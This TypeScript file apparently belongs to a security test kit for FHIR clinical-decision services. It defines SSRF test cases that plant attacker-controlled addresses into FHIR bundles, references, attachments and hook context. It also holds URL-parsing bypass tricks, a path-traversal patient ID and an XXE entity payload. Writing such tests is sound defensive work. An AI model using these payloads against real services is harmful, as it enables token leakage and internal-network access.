/** Addresses inside FHIR data: next pages, references, attachments, canonical URLs. */
import { isObject } from '../rules/asking.ts';
import type { Body } from '../target.ts';
import { type AddressAttack, type Lure, type Lured, redirect, ssrf } from './address-attack.ts';
import { listKeyOf, patientIdOf, planted, withPrefetch } from './sample-parts.ts';

type Place = (request: Body, lure: Lure) => Lured | string;

/** With the kit's FHIR server where there is one: then the service holds a token that could go astray. */
function offered(request: Body, { target, authorization }: Lure): Body {
  return target.fhir === undefined
    ? request
    : { ...request, fhirServer: target.fhir.base, fhirAuthorization: authorization };
}

const attack = (id: string, rule: string, bend: Place, source = redirect): AddressAttack => ({
  id,
  rule,
  source,
  bend,
});

const noList = 'the service asks for no list of FHIR resources';

/** Members laid over the searchset under the first list key. */
const inList =
  (members: (lure: Lure, bundle: Body) => Body): Place =>
  (request, lure) => {
    const key = listKeyOf(lure.ground.service);
    if (key === undefined) return noList;
    const bundle =
      isObject(request.prefetch) && isObject(request.prefetch[key.name]) ? request.prefetch[key.name] : {};
    const searchset = { resourceType: 'Bundle', type: 'searchset', ...(bundle as Body) };
    return {
      body: withPrefetch(offered(request, lure), key.name, { ...searchset, ...members(lure, searchset) }),
    };
  };

const next = (id: string, what: string, url: (lure: Lure) => string): AddressAttack =>
  attack(
    id,
    `A next page elsewhere is not fetched: ${what}.`,
    inList((lure) => ({ link: [{ relation: 'next', url: url(lure) }] })),
  );

/** One more resource of the list's own kind, with these members, in an entry with those. */
const inResource =
  (members: (address: string) => Body, entryMembers: (address: string) => Body = () => ({})): Place =>
  (request, lure) => {
    const key = listKeyOf(lure.ground.service);
    if (key === undefined) return noList;
    const resource = planted(request, key, { reference: `Patient/${patientIdOf(request)}` });
    const address = `http://${lure.host}/fhir`;
    const entry = { ...entryMembers(address), resource: { ...resource, ...members(address) } };
    return inList((_, { entry: entries }) => ({
      entry: [...(Array.isArray(entries) ? entries : []), entry],
    }))(request, lure);
  };

const reference = (
  id: string,
  what: string,
  members: (address: string) => Body,
  source = redirect,
): AddressAttack =>
  attack(id, `An absolute address in prefetch is not fetched: ${what}.`, inResource(members), source);

const order = (address: string, patientId: unknown): Body => ({
  resourceType: 'MedicationRequest',
  id: 'lure',
  status: 'draft',
  intent: 'order',
  subject: { reference: `Patient/${patientId}` },
  medicationReference: { reference: `${address}/Medication/1` },
});

/** A medication order among the resources of whatever list the service asks for. */
const medication =
  (address: (lure: Lure) => string): Place =>
  (request, lure) => {
    const key = listKeyOf(lure.ground.service, 'MedicationRequest', 'MedicationStatement');
    if (key === undefined) return noList;
    const entry = [{ resource: order(address(lure), patientIdOf(request)) }];
    const bundle = { resourceType: 'Bundle', type: 'searchset', total: 1, entry };
    return { body: withPrefetch(offered(request, lure), key.name, bundle) };
  };

const inContext =
  (members: (address: string, request: Body) => Body): Place =>
  (request, lure) => {
    const context = isObject(request.context) ? request.context : {};
    const added = members(`http://${lure.host}/fhir`, request);
    return { body: { ...offered(request, lure), context: { ...context, ...added } } };
  };

const collection = (...resources: readonly Body[]): Body => ({
  resourceType: 'Bundle',
  type: 'collection',
  entry: resources.map((resource) => ({ resource })),
});

export const referenceAttacks: readonly AddressAttack[] = [
  next('ssrf-43', 'by IPv4', ({ host }) => `http://${host}/fhir?page=2`),
  next('ssrf-44', 'by IPv6', ({ canary }) => `http://[::1]:${canary.port}/fhir?page=2`),
  next('ssrf-45', 'without scheme', ({ host }) => `//${host}/fhir?page=2`),
  next(
    'ssrf-46',
    'the good host as user',
    ({ host, goodBase }) => `http://${new URL(goodBase).host}@${host}/fhir?page=2`,
  ),
  next(
    'ssrf-47',
    'the good base as prefix',
    ({ host, goodBase }) => `${new URL(goodBase).origin}@${host}/fhir?page=2`,
  ),
  next('ssrf-48', 'backslashes', ({ host }) => `http:\\\\${host}\\fhir?page=2`),
  next('ssrf-49', 'https', ({ host }) => `https://${host}/fhir?page=2`),
  attack(
    'ssrf-50',
    'Of several next links none leads elsewhere.',
    inList(({ host, goodBase }) => ({
      link: [
        { relation: 'self', url: `http://${host}/fhir/self` },
        { relation: 'next', url: `${goodBase}/` },
        { relation: 'next', url: `http://${host}/fhir?page=2` },
        { relation: 'last', url: `http://${host}/fhir?page=9` },
      ],
    })),
  ),
  attack(
    'ssrf-51',
    'A fullUrl elsewhere is not fetched.',
    inResource(
      () => ({}),
      (address) => ({ fullUrl: `${address}/X/planted` }),
    ),
  ),
  attack(
    'ssrf-52',
    'A Medication elsewhere is not fetched.',
    medication(({ host }) => `http://${host}/fhir`),
  ),
  attack(
    'ssrf-53',
    'A Medication on a host with the good one as user is not fetched.',
    medication(({ host, goodBase }) => `http://${new URL(goodBase).host}@${host}/fhir`),
  ),
  attack(
    'ssrf-54',
    'A Medication at an address without scheme is not fetched.',
    medication(({ host }) => `//${host}/fhir`),
  ),
  reference('ssrf-55', 'encounter', (address) => ({ encounter: { reference: `${address}/Encounter/1` } })),
  reference('ssrf-56', 'performer and requester', (address) => ({
    performer: [{ reference: `${address}/Practitioner/1` }],
    requester: { reference: `${address}/Practitioner/1` },
    recorder: { reference: `${address}/Practitioner/1` },
  })),
  reference('ssrf-57', 'derived and supporting resources', (address) => ({
    basedOn: [{ reference: `${address}/ServiceRequest/1` }],
    derivedFrom: [{ reference: `${address}/Observation/1` }],
    hasMember: [{ reference: `${address}/Observation/2` }],
    supportingInformation: [{ reference: `${address}/Condition/1` }],
  })),
  reference(
    'ssrf-58',
    'attachments',
    (address) => ({
      content: [{ attachment: { contentType: 'application/pdf', url: `${address}/Binary/1` } }],
      presentedForm: [{ contentType: 'application/pdf', url: `${address}/Binary/1` }],
      photo: [{ contentType: 'image/png', url: `${address}/Binary/2` }],
    }),
    ssrf,
  ),
  reference(
    'ssrf-59',
    'profiles, rules and instantiated definitions',
    (address) => ({
      meta: { profile: [`${address}/StructureDefinition/x`] },
      implicitRules: `${address}/rules`,
      instantiatesUri: [`${address}/PlanDefinition/x`],
      instantiatesCanonical: [`${address}/PlanDefinition/x`],
    }),
    ssrf,
  ),
  reference(
    'ssrf-60',
    'code systems',
    (address) => ({ code: { coding: [{ system: `${address}/CodeSystem/x`, code: '1' }] } }),
    ssrf,
  ),
  reference(
    'ssrf-61',
    'extensions',
    (address) => ({
      extension: [
        { url: `${address}/StructureDefinition/x`, valueUrl: `${address}/x` },
        { url: 'https://example.org/x', valueReference: { reference: `${address}/Patient/1` } },
      ],
    }),
    ssrf,
  ),
  reference(
    'ssrf-62',
    'pictures and external entities in narrative',
    (address) => ({
      text: {
        status: 'generated',
        div: `<!DOCTYPE d [<!ENTITY x SYSTEM "${address}/x">]><div xmlns="http://www.w3.org/1999/xhtml"><img src="${address}/x.png"/>&x;</div>`,
      },
    }),
    'CVE-2024-52007 (XXE in a FHIR library)',
  ),
  attack(
    'ssrf-63',
    'A user elsewhere is not fetched.',
    inContext((address) => ({ userId: `${address}/Practitioner/1` })),
  ),
  attack(
    'ssrf-64',
    'An encounter elsewhere is not fetched.',
    inContext((address) => ({ encounterId: `${address}/Encounter/1` })),
  ),
  attack(
    'ssrf-65',
    'A patient elsewhere is not fetched.',
    inContext((address) => ({ patientId: `${address}/Patient/1` })),
  ),
  attack(
    'ssrf-66',
    'A patientId that is a path does not lead elsewhere.',
    inContext((address) => ({ patientId: `../../../..//${address.replace('http://', '')}` })),
  ),
  attack(
    'ssrf-67',
    'Draft orders that point elsewhere are not followed.',
    inContext((address, request) => {
      const draft = order(address, patientIdOf(request));
      const more = {
        ...draft,
        id: 'lure-2',
        reasonReference: [{ reference: `${address}/Condition/1` }],
        insurance: [{ reference: `${address}/Coverage/1` }],
      };
      return { draftOrders: collection(draft, more), selections: [`${address}/MedicationRequest/lure`] };
    }),
  ),
  attack(
    'ssrf-68',
    'Dispatched orders, performers and tasks elsewhere are not fetched.',
    inContext((address, request) => ({
      dispatchedOrders: [`${address}/ServiceRequest/1`],
      performer: `${address}/Organization/1`,
      fulfillmentTasks: [
        {
          resourceType: 'Task',
          status: 'requested',
          intent: 'order',
          for: { reference: `Patient/${patientIdOf(request)}` },
          focus: { reference: `${address}/ServiceRequest/1` },
        },
      ],
    })),
  ),
];
